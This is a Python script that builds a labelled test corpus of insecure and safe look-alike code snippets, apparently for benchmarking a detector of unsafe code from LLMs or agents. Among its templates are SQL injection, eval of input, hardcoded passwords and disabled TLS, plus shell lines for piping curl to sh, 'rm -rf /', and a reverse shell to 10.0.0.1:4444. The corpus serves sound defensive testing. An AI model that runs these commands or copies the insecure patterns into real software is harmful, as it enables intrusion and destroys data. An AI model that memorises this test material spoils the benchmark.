"""Builds corpus.jsonl: insecure and safe look-alike code, as an LLM or an agent sends it.

Each template is one snippet shape (its `family` the weakness or the safe idiom it mirrors);
every template yields a few texts, varied in names and in wrapping (bare code, a ```python
/ ```py / unlabelled fence inside prose, a ```bash fence for shell). The dev/heldout split is
by template (a stable hash), so heldout texts never share a template with dev. Frozen:
re-running with the same seed writes the same file. Run:
    .venv/bin/python tests/data/codesec/build_corpus.py
"""

from __future__ import annotations

import hashlib
import json
import random
from pathlib import Path

SEED = 10
OUT = Path(__file__).with_name("corpus.jsonl")
VARS = ["user_input", "payload", "data", "body", "arg", "raw", "value", "text"]
FUNCS = ["handle", "process", "run_job", "load_config", "serve", "main", "do_work"]
TABLES = ["users", "orders", "accounts", "sessions", "items"]

# (family, label, language, code). label 1: insecure.
T: list[tuple[str, int, str, str]] = [
    # ---- eval / exec
    ("eval", 1, "python", "def {f}({v}):\n    return eval({v})\n"),
    ("eval", 1, "python", "expr = input('calc> ')\nprint(eval(expr))\n"),
    ("eval", 1, "python", "import sys\nresult = eval(sys.argv[1])\n"),
    ("eval", 1, "python", "def {f}(request):\n    code = request.form['code']\n    exec(code)\n"),
    ("eval", 1, "python", "with open(path) as fh:\n    exec(fh.read(), {{}})\n"),
    ("eval", 0, "python", "import ast\n\ndef {f}({v}):\n    return ast.literal_eval({v})\n"),
    ("eval", 0, "python", "import json\nexpr = input('json> ')\nprint(json.loads(expr))\n"),
    (
        "eval",
        0,
        "python",
        "import operator\nOPS = {{'+': operator.add, '-': operator.sub}}\n"
        "def {f}(a, op, b):\n    return OPS[op](a, b)\n",
    ),
    (
        "eval",
        0,
        "python",
        "def {f}(request):\n    code = request.form['code']\n    return {{'length': len(code)}}\n",
    ),
    # ---- subprocess / os.system
    (
        "shell_true",
        1,
        "python",
        "import subprocess\n\ndef {f}({v}):\n    subprocess.call('ls ' + {v}, shell=True)\n",
    ),
    (
        "shell_true",
        1,
        "python",
        "import subprocess\ncmd = f'grep {{pattern}} {{filename}}'\n"
        "out = subprocess.check_output(cmd, shell=True)\n",
    ),
    (
        "shell_true",
        1,
        "python",
        "import os\n\ndef {f}(host):\n    os.system('ping -c 1 ' + host)\n",
    ),
    ("shell_true", 1, "python", "import os\nos.popen('cat %s' % {v}).read()\n"),
    (
        "shell_true",
        1,
        "python",
        "import subprocess\nsubprocess.Popen({v}, shell=True, stdout=subprocess.PIPE)\n",
    ),
    (
        "shell_true",
        0,
        "python",
        "import subprocess\n\ndef {f}({v}):\n    subprocess.run(['ls', '--', {v}], check=True)\n",
    ),
    (
        "shell_true",
        0,
        "python",
        "import subprocess\nout = subprocess.check_output(\n"
        "    ['grep', '--', pattern, filename], text=True\n)\n",
    ),
    ("shell_true", 0, "python", "import shutil\n\ndef {f}(src, dst):\n    shutil.copy(src, dst)\n"),
    (
        "shell_true",
        0,
        "python",
        "import subprocess\nsubprocess.run(['git', 'status'], capture_output=True, check=False)\n",
    ),
    (
        "shell_true",
        0,
        "python",
        "import shlex\n\ndef {f}(host):\n    return 'ping -c 1 ' + shlex.quote(host)\n",
    ),
    # ---- deserialisation
    ("pickle", 1, "python", "import pickle\n\ndef {f}({v}):\n    return pickle.loads({v})\n"),
    (
        "pickle",
        1,
        "python",
        "import pickle\nwith open('cache.pkl', 'rb') as fh:\n    state = pickle.load(fh)\n",
    ),
    (
        "pickle",
        1,
        "python",
        "import yaml\n\ndef {f}(path):\n    with open(path) as fh:\n"
        "        return yaml.load(fh, Loader=yaml.Loader)\n",
    ),
    ("pickle", 1, "python", "import yaml\nconfig = yaml.load(open('config.yml'))\n"),
    ("pickle", 1, "python", "import marshal\n\ndef {f}({v}):\n    return marshal.loads({v})\n"),
    ("pickle", 1, "python", "import shelve\ndb = shelve.open('store')\nitem = db[key]\n"),
    ("pickle", 0, "python", "import json\n\ndef {f}({v}):\n    return json.loads({v})\n"),
    (
        "pickle",
        0,
        "python",
        "import json\nwith open('cache.json') as fh:\n    state = json.load(fh)\n",
    ),
    (
        "pickle",
        0,
        "python",
        "import yaml\n\ndef {f}(path):\n    with open(path) as fh:\n"
        "        return yaml.safe_load(fh)\n",
    ),
    (
        "pickle",
        0,
        "python",
        "import yaml\nconfig = yaml.load(open('config.yml'), Loader=yaml.SafeLoader)\n",
    ),
    (
        "pickle",
        0,
        "python",
        "import tomllib\nwith open('pyproject.toml', 'rb') as fh:\n    cfg = tomllib.load(fh)\n",
    ),
    # ---- SQL
    (
        "sql",
        1,
        "python",
        "def {f}(cur, name):\n"
        "    cur.execute(\"SELECT * FROM {t} WHERE name = '%s'\" % name)\n    return cur.fetchall()\n",
    ),
    (
        "sql",
        1,
        "python",
        'def {f}(cur, uid):\n    cur.execute(f"DELETE FROM {t} WHERE id = {{uid}}")\n',
    ),
    (
        "sql",
        1,
        "python",
        "def {f}(db, email):\n"
        '    q = "SELECT id FROM {t} WHERE email = \'" + email + "\'"\n    return db.execute(q)\n',
    ),
    (
        "sql",
        1,
        "python",
        "def {f}(conn, col, val):\n"
        "    sql = 'UPDATE {t} SET {{}} = {{}}'.format(col, val)\n    conn.execute(sql)\n",
    ),
    (
        "sql",
        1,
        "python",
        "query = \"INSERT INTO {t} (name) VALUES ('%s')\" % {v}\ncursor.execute(query)\n",
    ),
    (
        "sql",
        0,
        "python",
        "def {f}(cur, name):\n"
        "    cur.execute('SELECT * FROM {t} WHERE name = %s', (name,))\n    return cur.fetchall()\n",
    ),
    (
        "sql",
        0,
        "python",
        "def {f}(cur, uid):\n    cur.execute('DELETE FROM {t} WHERE id = ?', (uid,))\n",
    ),
    (
        "sql",
        0,
        "python",
        "from sqlalchemy import text\n\ndef {f}(db, email):\n"
        "    return db.execute(text('SELECT id FROM {t} WHERE email = :e'), {{'e': email}})\n",
    ),
    (
        "sql",
        0,
        "python",
        "def {f}(session, model, uid):\n"
        "    return session.query(model).filter(model.id == uid).one()\n",
    ),
    (
        "sql",
        0,
        "python",
        "query = 'INSERT INTO {t} (name) VALUES (?)'\ncursor.execute(query, ({v},))\n",
    ),
    # ---- secrets
    (
        "secret",
        1,
        "python",
        "DB_PASSWORD = 'S3cr3t!pass'\nconn = connect(user='app', password=DB_PASSWORD)\n",
    ),
    (
        "secret",
        1,
        "python",
        "def {f}(user, password='admin123'):\n    return login(user, password)\n",
    ),
    (
        "secret",
        1,
        "python",
        "import requests\nrequests.post(url, auth=('admin', 'hunter2'), timeout=10)\n",
    ),
    ("secret", 1, "python", "password = 'changeme'\nif entered == password:\n    grant_access()\n"),
    (
        "secret",
        0,
        "python",
        "import os\nDB_PASSWORD = os.environ['DB_PASSWORD']\n"
        "conn = connect(user='app', password=DB_PASSWORD)\n",
    ),
    (
        "secret",
        0,
        "python",
        "import getpass\n\ndef {f}(user):\n    return login(user, getpass.getpass())\n",
    ),
    ("secret", 0, "python", "import keyring\npassword = keyring.get_password('svc', 'admin')\n"),
    (
        "secret",
        0,
        "python",
        "import hmac\n\ndef {f}(entered, stored):\n"
        "    return hmac.compare_digest(entered, stored)\n",
    ),
    # ---- TLS
    ("tls", 1, "python", "import requests\nresp = requests.get(url, verify=False, timeout=5)\n"),
    ("tls", 1, "python", "import ssl\nctx = ssl._create_unverified_context()\n"),
    (
        "tls",
        1,
        "python",
        "import requests\n\ndef {f}(url):\n"
        "    return requests.post(url, json={{}}, verify=False, timeout=3).json()\n",
    ),
    ("tls", 1, "python", "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_SSLv3)\n"),
    ("tls", 1, "python", "import httpx\nclient = httpx.Client(verify=False)\n"),
    ("tls", 0, "python", "import requests\nresp = requests.get(url, timeout=5)\n"),
    ("tls", 0, "python", "import ssl\nctx = ssl.create_default_context()\n"),
    (
        "tls",
        0,
        "python",
        "import requests\n\ndef {f}(url):\n"
        "    return requests.post(url, json={{}}, verify='/etc/ssl/ca.pem', timeout=3).json()\n",
    ),
    ("tls", 0, "python", "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"),
    ("tls", 0, "python", "import httpx\nclient = httpx.Client(timeout=10.0)\n"),
    # ---- hashing / randomness
    (
        "crypto",
        1,
        "python",
        "import hashlib\n\ndef {f}(password):\n"
        "    return hashlib.md5(password.encode()).hexdigest()\n",
    ),
    ("crypto", 1, "python", "import hashlib\nstored = hashlib.sha1(pw.encode()).hexdigest()\n"),
    (
        "crypto",
        1,
        "python",
        "import random\n\ndef {f}():\n"
        "    return ''.join(random.choice('abcdef0123') for _ in range(32))\n",
    ),
    ("crypto", 1, "python", "from Crypto.Cipher import DES\ncipher = DES.new(key, DES.MODE_ECB)\n"),
    ("crypto", 1, "python", "import hashlib\ntoken = hashlib.new('md5', secret).hexdigest()\n"),
    (
        "crypto",
        0,
        "python",
        "import hashlib\n\ndef {f}(password, salt):\n"
        "    return hashlib.pbkdf2_hmac('sha256', password.encode(), salt, 600_000)\n",
    ),
    ("crypto", 0, "python", "import hashlib\nstored = hashlib.sha256(pw.encode()).hexdigest()\n"),
    ("crypto", 0, "python", "import secrets\n\ndef {f}():\n    return secrets.token_hex(16)\n"),
    (
        "crypto",
        0,
        "python",
        "from cryptography.fernet import Fernet\ncipher = Fernet(Fernet.generate_key())\n",
    ),
    (
        "crypto",
        0,
        "python",
        "import hashlib\n\ndef {f}(blob):\n"
        "    return hashlib.md5(blob, usedforsecurity=False).hexdigest()\n",
    ),
    # ---- temp files / permissions / binding
    (
        "files",
        1,
        "python",
        "import tempfile\npath = tempfile.mktemp()\n"
        "with open(path, 'w') as fh:\n    fh.write({v})\n",
    ),
    ("files", 1, "python", "import os\nos.chmod('/srv/app/config', 0o777)\n"),
    ("files", 1, "python", "with open('/tmp/{f}.log', 'w') as fh:\n    fh.write({v})\n"),
    (
        "files",
        1,
        "python",
        "import tarfile\n\ndef {f}(path, dest):\n"
        "    with tarfile.open(path) as tar:\n        tar.extractall(dest)\n",
    ),
    (
        "files",
        0,
        "python",
        "import tempfile\nwith tempfile.NamedTemporaryFile('w', "
        "delete=False) as fh:\n    fh.write({v})\n",
    ),
    ("files", 0, "python", "import os\nos.chmod('/srv/app/config', 0o600)\n"),
    (
        "files",
        0,
        "python",
        "import tempfile\nfrom pathlib import Path\n"
        "d = Path(tempfile.mkdtemp())\n(d / '{f}.log').write_text({v})\n",
    ),
    (
        "files",
        0,
        "python",
        "import tarfile\n\ndef {f}(path, dest):\n"
        "    with tarfile.open(path) as tar:\n        tar.extractall(dest, filter='data')\n",
    ),
    # ---- web frameworks / misc
    (
        "web",
        1,
        "python",
        "from flask import Flask\napp = Flask(__name__)\n\n"
        "if __name__ == '__main__':\n    app.run(debug=True)\n",
    ),
    ("web", 1, "python", "import jinja2\nenv = jinja2.Environment(autoescape=False)\n"),
    ("web", 1, "python", "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\n"),
    (
        "web",
        1,
        "python",
        "import xml.etree.ElementTree as ET\n\ndef {f}({v}):\n    return ET.fromstring({v})\n",
    ),
    ("web", 1, "python", "import telnetlib\ntn = telnetlib.Telnet(host)\n"),
    (
        "web",
        1,
        "python",
        "from urllib.request import urlopen\n\ndef {f}(url):\n    return urlopen(url).read()\n",
    ),
    (
        "web",
        0,
        "python",
        "from flask import Flask\napp = Flask(__name__)\n\n"
        "if __name__ == '__main__':\n    app.run()\n",
    ),
    ("web", 0, "python", "import jinja2\nenv = jinja2.Environment(autoescape=True)\n"),
    ("web", 0, "python", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8080))\n"),
    (
        "web",
        0,
        "python",
        "import defusedxml.ElementTree as ET\n\ndef {f}({v}):\n    return ET.fromstring({v})\n",
    ),
    (
        "web",
        0,
        "python",
        "import paramiko\nclient = paramiko.SSHClient()\nclient.load_system_host_keys()\n",
    ),
    (
        "web",
        0,
        "python",
        "import requests\n\ndef {f}(url):\n    return requests.get(url, timeout=10).content\n",
    ),
    # ---- assert for auth, except/pass
    (
        "assert",
        1,
        "python",
        "def delete_account(user, target):\n"
        "    assert user.is_admin, 'admins only'\n    target.delete()\n",
    ),
    (
        "assert",
        1,
        "python",
        "def {f}(request):\n    assert request.user.is_authenticated\n    return secret_report()\n",
    ),
    (
        "assert",
        0,
        "python",
        "def delete_account(user, target):\n"
        "    if not user.is_admin:\n        raise PermissionError('admins only')\n    target.delete()\n",
    ),
    (
        "assert",
        0,
        "python",
        "def {f}(request):\n    if not request.user.is_authenticated:\n"
        "        return redirect('/login')\n    return secret_report()\n",
    ),
    # ---- shell
    ("sh_pipe", 1, "shell", "curl -fsSL https://get.example.com/install.sh | sh\n"),
    ("sh_pipe", 1, "shell", "wget -qO- https://example.org/setup | sudo bash\n"),
    ("sh_pipe", 1, "shell", "bash <(curl -s https://example.net/bootstrap.sh)\n"),
    ("sh_pipe", 1, "shell", 'sh -c "$(curl -fsSL https://raw.example.com/tools/install.sh)"\n'),
    (
        "sh_pipe",
        0,
        "shell",
        "curl -fsSL -o install.sh https://get.example.com/install.sh\n"
        "sha256sum -c install.sh.sha256\nsh install.sh\n",
    ),
    ("sh_pipe", 0, "shell", "curl -s https://api.example.com/status | jq .status\n"),
    ("sh_pipe", 0, "shell", "wget -q https://example.org/data.csv -O data.csv\nwc -l data.csv\n"),
    ("sh_pipe", 0, "shell", "brew install jq\njq --version\n"),
    ("sh_perm", 1, "shell", "sudo chmod -R 777 /var/www\n"),
    ("sh_perm", 1, "shell", "chmod 777 ~/.ssh/id_rsa\n"),
    ("sh_perm", 1, "shell", "chmod a+rwx /etc/app/secrets.env\n"),
    ("sh_perm", 1, "shell", "sudo setenforce 0\nsudo ufw disable\n"),
    (
        "sh_perm",
        0,
        "shell",
        "sudo chown -R www-data:www-data /var/www\nsudo chmod -R 755 /var/www\n",
    ),
    ("sh_perm", 0, "shell", "chmod 600 ~/.ssh/id_rsa\n"),
    ("sh_perm", 0, "shell", "chmod +x scripts/build.sh\n./scripts/build.sh\n"),
    ("sh_perm", 0, "shell", "sudo ufw allow 22/tcp\nsudo ufw enable\n"),
    ("sh_rm", 1, "shell", "sudo rm -rf / --no-preserve-root\n"),
    ("sh_rm", 1, "shell", "rm -rf ~/\n"),
    ("sh_rm", 1, "shell", "rm -rf $BUILD_DIR/*\n"),
    ("sh_rm", 1, "shell", "rm -fr /*\n"),
    ("sh_rm", 0, "shell", "rm -rf ./build ./dist\n"),
    ("sh_rm", 0, "shell", "rm -rf node_modules && npm ci\n"),
    ("sh_rm", 0, "shell", "find /tmp/cache -mtime +7 -delete\n"),
    ("sh_rm", 0, "shell", "rm -f /tmp/app.pid\n"),
    ("sh_net", 1, "shell", "curl -k https://internal.example.com/api/health\n"),
    ("sh_net", 1, "shell", "git config --global http.sslVerify false\n"),
    ("sh_net", 1, "shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
    ("sh_net", 1, "shell", "pip install --trusted-host pypi.example.com -r requirements.txt\n"),
    ("sh_net", 1, "shell", "sshpass -p 'hunter2' ssh admin@server\n"),
    (
        "sh_net",
        0,
        "shell",
        "curl --cacert /etc/ssl/internal-ca.pem https://internal.example.com/api/health\n",
    ),
    ("sh_net", 0, "shell", "git config --global pull.rebase true\n"),
    ("sh_net", 0, "shell", "ssh -i ~/.ssh/deploy_key admin@server uptime\n"),
    ("sh_net", 0, "shell", "pip install -r requirements.txt\n"),
    ("sh_net", 0, "shell", "nc -zv db.internal 5432\n"),
]

PROSE_BEFORE = [
    "Here is a function that does what you asked:",
    "Sure! You can do it like this:",
    "Try the following:",
    "This should work for your use case:",
    "Here's an updated version:",
]
PROSE_AFTER = [
    "Let me know if you need anything else.",
    "This keeps the code short and readable.",
    "You can adapt the names to your project.",
    "",
]


def _hash(key: str) -> int:
    return int(hashlib.sha256(f"{SEED}:{key}".encode()).hexdigest(), 16)


def wrap(code: str, language: str, style: str, rng: random.Random) -> str:
    if style == "bare":
        return code
    label = {"python": "python", "py": "py", "plain": "", "shell": rng.choice(["bash", "sh"])}
    fence_label = (
        label[style] if language == "python" else label["shell"] if style != "plain" else ""
    )
    after = rng.choice(PROSE_AFTER)
    text = f"{rng.choice(PROSE_BEFORE)}\n\n```{fence_label}\n{code}```\n"
    return text + (f"\n{after}\n" if after else "")


def build() -> list[dict[str, object]]:
    rng = random.Random(SEED)
    rows = []
    for i, (family, label, language, tpl) in enumerate(T):
        split = "heldout" if _hash(f"{i}:{tpl}") % 5 < 2 else "dev"
        styles = (
            ["python", "py", "plain", "bare"]
            if language == "python"
            else ["shell", "shell", "plain", "shell"]
        )
        for style in styles:
            code = tpl.format(v=rng.choice(VARS), f=rng.choice(FUNCS), t=rng.choice(TABLES))
            rows.append(
                {
                    "text": wrap(code, language, style, rng),
                    "label": label,
                    "family": family,
                    "language": language,
                    "wrapping": style,
                    "template": i,
                    "split": split,
                }
            )
    for i, row in enumerate(rows):
        row["id"] = f"code-{i:04d}"
    return rows


if __name__ == "__main__":
    rows = build()
    with OUT.open("w") as f:
        for row in rows:
            f.write(json.dumps(row) + "\n")
    pos = sum(r["label"] == 1 for r in rows)
    print(
        f"{len(rows)} rows ({pos} insecure, {len(rows) - pos} safe), by split:",
        {
            s: (
                sum(r["split"] == s and r["label"] == 1 for r in rows),
                sum(r["split"] == s and r["label"] == 0 for r in rows),
            )
            for s in ("dev", "heldout")
        },
    )
